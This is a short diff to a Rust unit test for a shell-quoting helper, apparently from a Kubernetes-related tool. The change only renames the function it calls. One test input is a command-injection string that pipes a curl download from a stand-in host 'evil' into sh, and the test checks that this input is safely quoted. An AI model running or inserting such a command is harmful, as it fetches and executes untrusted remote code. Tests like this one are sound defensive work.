@@ -124,7 +124,7 @@ fn the_text_escapes_what_the_cluster_named() {
 
 #[test]
 fn a_fix_names_a_hostile_kubeconfig_path_as_one_shell_word() {
-    assert_eq!(crate::escape::shell_word("/home/u/.kube/config"), "/home/u/.kube/config");
-    assert_eq!(crate::escape::shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
-    assert_eq!(crate::escape::shell_word("it's"), "'it'\\''s'");
+    assert_eq!(crate::shell::word("/home/u/.kube/config"), "/home/u/.kube/config");
+    assert_eq!(crate::shell::word("x; curl evil | sh"), "'x; curl evil | sh'");
+    assert_eq!(crate::shell::word("it's"), "'it'\\''s'");
 }
